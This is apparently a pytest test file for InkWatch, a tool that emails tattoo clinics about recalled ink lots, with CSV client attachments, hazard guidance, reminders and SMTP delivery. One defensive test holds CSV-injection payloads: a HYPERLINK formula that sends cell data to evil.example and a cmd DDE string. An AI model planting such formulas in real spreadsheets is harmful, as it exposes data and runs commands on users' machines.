"""The critical mail names the work: which bottles, how many sessions and clients between
which dates, the client references in an attached CSV (never in the text), and what to do
for this kind of hazard (guidance.toml, which a clinic can override). The reminder about an
open case, and both mails sent through a real SMTP server (aiosmtpd) and parsed back."""

from __future__ import annotations

import dataclasses
import shutil
from datetime import UTC, date, datetime, timedelta
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from pathlib import Path

import pytest
from smtp_server import SmtpTestServer

from monitor import pipeline
from monitor.errors import ConfigError
from monitor.model import Alert, Bottle, Case, Mail, Match, Severity, Treatment, Verdict
from monitor.notify.guidance import load_guidance, shipped_guidance, shipped_path
from monitor.notify.render import (
    AlertMail,
    Clinic,
    Recipient,
    message_id,
    reminder_message_id,
    render_alert,
    render_digest,
    render_reminder,
)
from monitor.notify.transports import SmtpTransport
from monitor.pipeline import store_alerts
from monitor.store import NewBottle, NewSession, Store
from monitor.text.lots import normalize_lot

REPO = Path(__file__).resolve().parent.parent
SENDER = "InkWatch <alerts@inkwatch.example.org>"
DOMAIN = "inkwatch.example.org"
ANA = Recipient("ana@clinic.example.org", "Ana", "mailto:ops@clinic.example.org")
URL = "https://ec.europa.eu/safety-gate-alerts/screen/webReport/alertDetail/10099999"
CLIENTS = ("K-101", "K-102", "K-103")
PSEUDOMONAS = Match("contaminant", "Pseudomonas", "hazards", "Pseudomonas aeruginosa")
LEAD = Match("contaminant", "Lead", "hazards", "lead")
LOT = Match("lot", "World Famous Limitless lot 158199", "lots", "158199")
CLINIC = Clinic(
    classes={"Pseudomonas": "microbial", "Lead": "metal"},
    regulators={"eu_safety_gate": "EU Safety Gate"},
)

BOTTLES = (
    Bottle(
        11,
        "World Famous",
        "Limitless Pure White",
        "158199",
        location="Room 1",
        opened=date(2026, 2, 1),
        received=date(2026, 1, 10),
    ),
    Bottle(12, "World Famous", "Limitless Pure White", "158199", location="Room 2 (PMU)"),
)
SESSIONS = (
    Treatment(1, "K-102", date(2026, 1, 20), ("158199",), "left forearm"),
    Treatment(2, "K-101", date(2026, 1, 12), ("158199",), "eyebrows"),
    Treatment(3, "K-103", date(2026, 2, 15), ("158199", "A-77"), "neck"),
    Treatment(4, "K-101", date(2026, 2, 9), ("158199",), "eyebrows"),
    Treatment(5, "K-103", date(2026, 3, 2), ("158199",), ""),
)
CASE = Case(
    id=7,
    alert=1,
    alert_id="eu_safety_gate:SR/00001/26",
    title="Tattoo ink",
    kind="lot",
    severity=Severity.CRITICAL,
    revision=1,
    lots=("158199",),
    opened="2026-03-03T08:00:00+00:00",
    bottles=BOTTLES,
    sessions=SESSIONS,
)
EXPECTED_CSV = (
    "client,date,lots,area\r\n"
    "K-101,2026-01-12,158199,eyebrows\r\n"
    "K-102,2026-01-20,158199,left forearm\r\n"
    "K-101,2026-02-09,158199,eyebrows\r\n"
    "K-103,2026-02-15,158199 A-77,neck\r\n"
    "K-103,2026-03-02,158199,\r\n"
)


def limitless(hazards: tuple[str, ...] = ("Microbiological: Pseudomonas aeruginosa",)) -> Alert:
    return Alert(
        source="eu_safety_gate",
        ref="SR/00001/26",
        url=URL,
        title="Tattoo ink — World Famous — Limitless Pure White",
        published=datetime(2026, 3, 2, tzinfo=UTC),
        brands=("World Famous",),
        products=("Limitless Pure White",),
        lots=("158199",),
        hazards=hazards,
        country="Germany",
        action="Recall of the product from end users",
    )


def critical(*matches: Match) -> Verdict:
    reasons = ("You hold lot 158199 of World Famous Limitless.",)
    return Verdict(True, Severity.CRITICAL, (LOT, *matches), reasons)


def case_mail(case: Case | None = CASE, *matches: Match, clinic: Clinic = CLINIC) -> AlertMail:
    alert = limitless()
    verdict = critical(*(matches or (PSEUDOMONAS,)))
    return AlertMail(
        alert.id, 1, alert, verdict, "2026-03-03T08:00:00+00:00", clinic=clinic, case=case
    )


def reparse(msg: EmailMessage) -> EmailMessage:
    parsed = BytesParser(policy=policy.default).parsebytes(msg.as_bytes())
    assert isinstance(parsed, EmailMessage)
    return parsed


def render(mail: AlertMail) -> EmailMessage:
    return reparse(render_alert(mail, ANA, sender=SENDER, domain=DOMAIN))


def plain(msg: EmailMessage) -> str:
    return msg.get_body(("plain",)).get_content()


def html(msg: EmailMessage) -> str:
    return msg.get_body(("html",)).get_content()


def attachments(msg: EmailMessage) -> list[EmailMessage]:
    return list(msg.iter_attachments())


def csv_text(part: EmailMessage) -> str:
    return part.get_payload(decode=True).decode("utf-8")


# -- the alert mail with a case -----------------------------------------------------------


def test_the_mail_names_both_bottles_and_counts_sessions_and_clients_near_the_top() -> None:
    text = plain(render(case_mail()))
    lines = text.splitlines()
    top = lines[: lines.index("Your bottles")]
    assert top[-4:] == [
        "Case #7 is open for this notice: 2 of your bottles.",
        "5 sessions with 3 clients used lot 158199 between 2026-01-12 and 2026-03-02.",
        "The client references are in the attached file inkwatch-case-7-clients.csv, "
        "not in the text of this email.",
        "",
    ]
    assert lines[lines.index("Your bottles") + 1 : lines.index("Your bottles") + 3] == [
        "  - World Famous Limitless Pure White, lot 158199 — Room 1 — opened on 2026-02-01, "
        "received 2026-01-10",
        "  - World Famous Limitless Pure White, lot 158199 — Room 2 (PMU) — sealed",
    ]
    assert text.index("Your bottles") < text.index("What we advise") < text.index("\nWhat\n")
    assert "inkwatch case 7 --action quarantined --by NAME" in text
    assert "inkwatch case 7 --close" in text


def test_no_client_reference_is_in_the_text_only_in_the_attachment() -> None:
    msg = render(case_mail())
    for body in (plain(msg), html(msg)):
        assert not [ref for ref in CLIENTS if ref in body]
    (part,) = attachments(msg)
    assert all(ref in csv_text(part) for ref in CLIENTS)


def test_the_csv_attachment_has_one_line_per_session_by_date() -> None:
    msg = render(case_mail())
    assert msg.get_content_type() == "multipart/mixed"
    (part,) = attachments(msg)
    assert part.get_content_type() == "text/csv"
    assert part.get_content_disposition() == "attachment"
    assert part.get_filename() == "inkwatch-case-7-clients.csv"
    assert csv_text(part) == EXPECTED_CSV


def test_csv_cells_cannot_start_a_formula_and_hold_no_control_characters() -> None:
    hostile = (
        Treatment(1, '=HYPERLINK("http://evil.example/?"&A1,"x")', date(2026, 1, 1), ("=1+1",)),
        Treatment(2, "+41 79", date(2026, 1, 2), ("158199",), "-2"),
        Treatment(3, "@SUM(A1)", date(2026, 1, 3), ("158199",), "\tneck"),
        Treatment(4, "K\x00-1\r\n04", date(2026, 1, 4), ("158199",), "arm\x1b[31m\u202e"),
        Treatment(5, " =cmd|' /C calc'!A0", date(2026, 1, 5), ("158199",)),
    )
    (part,) = attachments(render(case_mail(dataclasses.replace(CASE, sessions=hostile))))
    assert csv_text(part) == (
        "client,date,lots,area\r\n"
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",2026-01-01,\'=1+1,\r\n'
        "'+41 79,2026-01-02,158199,'-2\r\n"
        "'@SUM(A1),2026-01-03,158199,'neck\r\n"
        "K -1 04,2026-01-04,158199,arm [31m\r\n"
        "'=cmd|' /C calc'!A0,2026-01-05,158199,\r\n"
    )


def test_the_subject_says_how_many_bottles_are_yours() -> None:
    assert render(case_mail())["Subject"] == (
        "[InkWatch] Critical — 2 of your bottles — World Famous Limitless Pure White — Pseudomonas"
    )
    one = dataclasses.replace(CASE, bottles=BOTTLES[:1])
    assert "— 1 of your bottles —" in render(case_mail(one))["Subject"]
    window = dataclasses.replace(CASE, kind="window", severity=Severity.HIGH)
    assert "— 2 of your bottles to check —" in render(case_mail(window))["Subject"]
    without = render(case_mail(None))
    assert "— your lot 158199 —" in without["Subject"] and not attachments(without)


def test_a_case_without_sessions_has_no_attachment_and_says_so() -> None:
    msg = render(case_mail(dataclasses.replace(CASE, sessions=())))
    assert msg.get_content_type() == "multipart/alternative" and not attachments(msg)
    assert "No session in your records used lot 158199." in plain(msg)


# -- guidance by kind of hazard -----------------------------------------------------------


def advice(msg: EmailMessage) -> str:
    text = plain(msg)
    return text[text.index("What we advise") : text.index("Record what you do")]


def test_microbial_guidance_names_signs_referral_and_clinical_waste() -> None:
    text = advice(render(case_mail()))
    for words in ("red bumps or papules", "pus", "confined to the tattooed skin", "see a doctor"):
        assert words in text
    assert "clinical (infectious) waste" in text
    assert "keep them for return to the supplier" not in text
    assert f"EU Safety Gate published the notice and its own advice: {URL}" in text


def test_chemical_guidance_says_quarantine_and_return_and_no_infection_signs() -> None:
    text = advice(render(case_mail(CASE, LEAD)))
    assert "Stop using these bottles now and quarantine them" in text
    assert "keep every bottle of lot 158199 apart" in text
    assert "keep them for return to the supplier" in text
    assert "Tell clients who ask" in text
    assert "papules" not in text and "clinical (infectious) waste" not in text


def test_the_kind_of_hazard_comes_from_the_notice_when_no_contaminant_matched() -> None:
    mail = case_mail()
    mail = dataclasses.replace(mail, verdict=critical())  # only the lot matched
    assert "papules" in advice(render(mail))
    reach = dataclasses.replace(mail, alert=limitless(("Chemical: not compliant with REACH",)))
    assert "keep them for return to the supplier" in advice(render(reach))


def test_a_window_case_says_check_these_bottles() -> None:
    window = dataclasses.replace(CASE, kind="window", severity=Severity.HIGH)
    text = advice(render(case_mail(window)))
    assert "Check these bottles: read the lot number and any dates on their labels" in text
    assert "inkwatch case 7 --action not-ours --by NAME" in text
    assert text.index("Check these bottles") < text.index("papules")


def test_the_alert_mail_without_a_case_gives_the_shipped_advice() -> None:
    texts = shipped_guidance().texts
    assert texts["advice.held"].startswith("Take the bottles of {lots} off the shelf now")
    text = plain(render(case_mail(None)))
    assert "Take the bottles of lot 158199 off the shelf now, keep them apart" in text
    assert "Microbes in ink can cause skin infections" in text
    assert "Your bottles" not in text and "Case #" not in text


def test_a_clinics_guidance_wins_text_by_text(tmp_path: Path) -> None:
    path = tmp_path / "guidance.toml"
    path.write_text(
        '[case]\nmicrobial = "Our own words for {lots}: call Dr. Ruiz ({regulator})."\n'
        '[advice]\nheld = "Bag {lots} now."\n',
        encoding="utf-8",
    )
    clinic = dataclasses.replace(CLINIC, guidance=load_guidance(path))
    text = advice(render(case_mail(clinic=clinic)))
    assert "Our own words for lot 158199: call Dr. Ruiz (EU Safety Gate)." in text
    assert "papules" not in text and "EU Safety Gate published the notice" in text
    chemical = advice(render(case_mail(CASE, LEAD, clinic=clinic)))
    assert "keep them for return to the supplier" in chemical  # not in the file: shipped
    assert "- Bag lot 158199 now." in plain(render(case_mail(None, clinic=clinic)))
    assert load_guidance(tmp_path / "absent.toml") == shipped_guidance()


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ('[case]\nmicrobial = "ok"\nchemical = "unclosed\n', 3, "TOML syntax error"),
        ('[case]\nmicrobial = "ok"\n\nwhatever = "x"\n', 4, "unknown text case.whatever"),
        ('[advice]\nheld = "x"\n[case]\nother = "Call {phone}"\n', 4, "{phone}"),
        ('[advice]\nheld = "{lots:>9999999}"\n', 2, "{lots}"),
        ("[advice]\nheld = 3\n", 2, "advice.held must be a text"),
        ('[cases]\nheld = "x"\n', 1, "unknown table [cases]"),
    ],
)
def test_a_broken_guidance_file_is_an_error_naming_its_line(
    tmp_path: Path, text: str, line: int, words: str
) -> None:
    path = tmp_path / "guidance.toml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        load_guidance(path)
    assert caught.value.where == f"{path}:{line}" or caught.value.where.startswith(
        f"{path}:{line}:"
    )
    assert words in str(caught.value)


def test_the_clinics_guidance_beside_sources_toml_reaches_the_mail(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from monitor.cli.app import App
    from monitor.cli.mail import mail_settings

    shutil.copy(REPO / "monitor" / "data" / "sources.toml", tmp_path / "sources.toml")
    shutil.copy(REPO / "monitor" / "data" / "watchlist.toml", tmp_path / "watchlist.toml")
    guidance = tmp_path / "guidance.toml"
    guidance.write_text('[case]\nwindow = "Look at the shelf."\n', encoding="utf-8")
    app = App(str(tmp_path / "sources.toml"), str(tmp_path / "alerts.db"), False)
    assert mail_settings(app).clinic.guidance.text("case.window") == "Look at the shelf."
    guidance.write_text('[case]\nwindow = "Look\n', encoding="utf-8")
    clinic = mail_settings(App(*app._options)).clinic
    assert clinic.guidance == shipped_guidance()
    assert f"{guidance}:2" in capsys.readouterr().err


def test_the_shipped_file_is_the_one_in_the_package() -> None:
    assert shipped_path().resolve() == REPO / "monitor" / "data" / "guidance.toml"
    assert set(shipped_guidance().texts) == {
        *(f"advice.{name}" for name in ("held", "brand", "microbial", "chemical", "other")),
        *(f"case.{name}" for name in ("microbial", "chemical", "other", "window", "cite")),
    }


# -- the reminder and the digest ----------------------------------------------------------

AS_OF = datetime(2026, 3, 5, 9, 0, tzinfo=UTC)


def reminder(number: int = 2, case: Case = CASE) -> EmailMessage:
    msg = render_reminder(
        case, case_mail(), ANA, number=number, sender=SENDER, domain=DOMAIN, as_of=AS_OF
    )
    return reparse(msg)


def test_the_reminders_headers() -> None:
    msg = reminder()
    assert msg["Subject"] == (
        "[InkWatch] Open case #7: no action recorded — World Famous Limitless Pure White — "
        "2 of your bottles"
    )
    assert msg["Message-ID"] == reminder_message_id(7, 2, ANA.email, DOMAIN)
    assert msg["Message-ID"] == reminder()["Message-ID"] != reminder(3)["Message-ID"]
    assert msg["Message-ID"] != message_id(CASE.alert_id, 1, ANA.email, DOMAIN)
    assert msg["X-InkWatch-Case"] == "7/2"
    assert msg["Auto-Submitted"] == "auto-generated"
    assert msg["List-Unsubscribe"] == "<mailto:ops@clinic.example.org>"
    assert msg["Date"] is None and not attachments(msg)


def test_the_reminders_text_says_what_is_left_and_how_to_record_it() -> None:
    text = plain(reminder())
    assert text.startswith("Open case #7: no action recorded\n")
    assert "Case #7 has been open for 2 days (since 2026-03-03) and no action is recorded" in text
    assert (
        "It concerns 2 of your bottles. 5 sessions with 3 clients used lot 158199 between "
        "2026-01-12 and 2026-03-02." in text
    )
    assert "Contact the 3 clients treated with lot 158199" in text
    assert "Dispose of opened bottles as clinical waste" in text
    assert "    inkwatch case 7 --action quarantined --by NAME\n" in text
    assert "    inkwatch case 7 --close\n" in text
    assert "This is reminder 2" in text
    assert URL in text
    assert not [ref for ref in CLIENTS if ref in text + html(reminder())]
    young = dataclasses.replace(CASE, opened="2026-03-04T15:00:00+00:00")
    assert "open for 18 hours (since 2026-03-04)" in plain(reminder(1, young))


def test_a_digest_gives_the_case_in_one_line_without_attachment() -> None:
    msg = reparse(
        render_digest([case_mail()], ANA, sender=SENDER, domain=DOMAIN, period="daily 2026-03-03")
    )
    text = plain(msg)
    assert (
        "    Your case #7: 2 bottles (Room 1, Room 2 (PMU)); 5 sessions with 3 clients used lot "
        "158199 between 2026-01-12 and 2026-03-02.\n" in text
    )
    assert not attachments(msg) and not [ref for ref in CLIENTS if ref in text]


# -- through the outbox and a real SMTP server --------------------------------------------

MAIL = pipeline.MailSettings(
    sender=SENDER, domain=DOMAIN, admin="ops@clinic.example.org", clinic=CLINIC
)
T0 = datetime(2026, 3, 3, 8, 0, tzinfo=UTC)


def open_case(store: Store, *, digest: bool = False) -> tuple[int, int]:
    """A subscriber, the alert (critical, queued), the bottles, the sessions, the case:
    returns (alert num, case id)."""
    with store.transaction():
        store.add_subscriber("ana@clinic.example.org", name="Ana", now=T0.isoformat())
        if digest:
            store.add_subscriber("boss@clinic.example.org", mode="daily", now=T0.isoformat())
        later = (T0 + timedelta(minutes=5)).isoformat()
        store_alerts(store, [limitless()], judge=lambda _: critical(PSEUDOMONAS), now=later)
        bottles = store.add_bottles(
            NewBottle(
                b.brand, b.product, b.lot, location=b.location, opened=b.opened, received=b.received
            )
            for b in BOTTLES
        )
        store.add_sessions(NewSession(s.client, s.date, s.lots, s.area) for s in SESSIONS)
        (num,) = store.db.execute("SELECT num FROM alerts").fetchone()
        case = store.save_case(
            num,
            kind="lot",
            severity=Severity.CRITICAL,
            revision=1,
            lots=[normalize_lot("158199")],
            bottles=bottles,
            now=later,
        )
    return num, case


def test_a_case_mail_and_a_reminder_go_through_smtp_and_parse_back(store: Store) -> None:
    num, case = open_case(store, digest=True)
    with SmtpTestServer() as server:
        transport = SmtpTransport(server.host, server.port, security="none", timeout=2.0)
        first = pipeline.notify(store, transport, MAIL, now=T0 + timedelta(hours=1))
        alert_mail = server.handler.next_message().message()
        digest = pipeline.notify(store, transport, MAIL, now=T0 + timedelta(hours=17))
        digest_mail = server.handler.next_message().message()  # at midnight UTC
        # a day after the case opened with no action: the send run queues the first
        # reminder for both subscribers (notify.policy.reminders_for) and sends it
        second = pipeline.notify(store, transport, MAIL, now=T0 + timedelta(hours=26))
        reminded = server.handler.next_message().message()
    assert (first.sent, digest.sent, second.sent) == (1, 1, 2)
    assert alert_mail["Subject"].startswith("[InkWatch] Critical — 2 of your bottles — ")
    (part,) = attachments(alert_mail)
    assert part.get_filename() == f"inkwatch-case-{case}-clients.csv"
    assert csv_text(part) == EXPECTED_CSV
    assert "5 sessions with 3 clients used lot 158199" in plain(alert_mail)
    assert reminded["Message-ID"] == reminder_message_id(case, 1, "ana@clinic.example.org", DOMAIN)
    assert reminded["Subject"].startswith(f"[InkWatch] Open case #{case}: no action recorded")
    assert f"inkwatch case {case} --action quarantined --by NAME" in plain(reminded)
    assert f"Your case #{case}: 2 bottles (Room 1, Room 2 (PMU))" in plain(digest_mail)
    assert not attachments(digest_mail)


@pytest.mark.parametrize("settle", ["action", "close", "gone"])
def test_a_reminder_no_longer_needed_is_settled_without_mail(store: Store, settle: str) -> None:
    num, case = open_case(store)
    with store.transaction():
        if settle == "action":
            store.record_action(case, "quarantined", by="Ana", now=T0.isoformat())
        elif settle == "close":
            store.close_case(case, now=T0.isoformat())
        else:
            store.db.execute("DELETE FROM case_bottles WHERE case_id = ?", [case])
            store.db.execute("DELETE FROM cases WHERE id = ?", [case])
        store.queue_mail([Mail(num, 1, 1, False, T0.isoformat(), reminder=1)])
    with SmtpTestServer() as server:
        transport = SmtpTransport(server.host, server.port, security="none", timeout=2.0)
        report = pipeline.notify(store, transport, MAIL, now=T0 + timedelta(hours=1))
        received = server.handler.drained()
    assert report.sent == 1 and report.unneeded == 1  # the alert mail; the reminder settled
    assert len(received) == 1 and "Open case" not in str(received[0].message()["Subject"])
    rows = {row["reminder"]: row for row in store.db.query("SELECT * FROM outbox")}
    assert rows[1]["state"] == "sent" and rows[1]["message_id"] is None
    reason = {"action": "has an action recorded", "close": "is closed", "gone": "no case"}
    assert reason[settle] in rows[1]["last_error"]
    assert pipeline.notify(store, transport, MAIL, now=T0 + timedelta(hours=2)).unneeded == 0


def test_inkwatch_notify_writes_the_case_mail_and_counts_a_reminder_not_needed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import mailbox

    from click.testing import CliRunner

    from monitor.cli import cli

    monkeypatch.chdir(tmp_path)
    shutil.copy(REPO / "monitor" / "data" / "sources.toml", tmp_path / "sources.toml")
    shutil.copy(REPO / "monitor" / "data" / "watchlist.toml", tmp_path / "watchlist.toml")
    with Store.open(tmp_path / "alerts.db") as store:
        num, case = open_case(store)
        with store.transaction():
            store.record_action(case, "quarantined", by="Ana", now=T0.isoformat())
            store.queue_mail([Mail(num, 1, 1, False, T0.isoformat(), reminder=1)])
    args = ["--config", "sources.toml", "--db", "alerts.db", "notify"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert "1 sent, 0 to retry, 0 failed, 0 operator notices, 1 reminders not needed" in (
        result.output
    )
    (message,) = list(mailbox.mbox(tmp_path / "inkwatch.mbox"))
    parsed = BytesParser(policy=policy.default).parsebytes(message.as_bytes())
    assert "— 2 of your bottles —" in parsed["Subject"]
    assert [part.get_filename() for part in parsed.iter_attachments()] == [
        f"inkwatch-case-{case}-clients.csv"
    ]


def test_a_case_that_cannot_be_read_fails_its_row_only(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    from monitor.errors import StoreError

    num, case = open_case(store)
    with store.transaction():
        store.add_subscriber("second@clinic.example.org", now=T0.isoformat())
        store.queue_mail([Mail(num, 1, 2, False, T0.isoformat())])
    real = store.case_for_alert
    calls = []

    def flaky(alert: int) -> Case | None:  # the second lookup meets a broken row
        calls.append(alert)
        if len(calls) == 2:
            raise StoreError("case_bottles: database disk image is malformed")
        return real(alert)

    monkeypatch.setattr(store, "case_for_alert", flaky)
    with SmtpTestServer() as server:
        transport = SmtpTransport(server.host, server.port, security="none", timeout=2.0)
        report = pipeline.notify(store, transport, MAIL, now=T0 + timedelta(hours=1))
        received = server.handler.drained()
    assert (report.sent, report.failed, len(received)) == (1, 1, 1)
    (failed,) = store.outbox(("failed",))
    assert "could not be made" in failed["last_error"] and "malformed" in failed["last_error"]


def test_a_reminder_about_a_window_case_says_check_the_bottles() -> None:
    window = dataclasses.replace(CASE, kind="window", severity=Severity.HIGH, sessions=())
    text = plain(reminder(1, window))
    assert "no action is recorded" in text and "2 of your bottles to check" in text
    assert "Check the labels of these bottles (lot, dates) and the dates you received them" in text
    assert "inkwatch case 7 --action not-ours --by NAME" in text
    assert "Contact" not in text and "No session in your records used lot 158199." in text
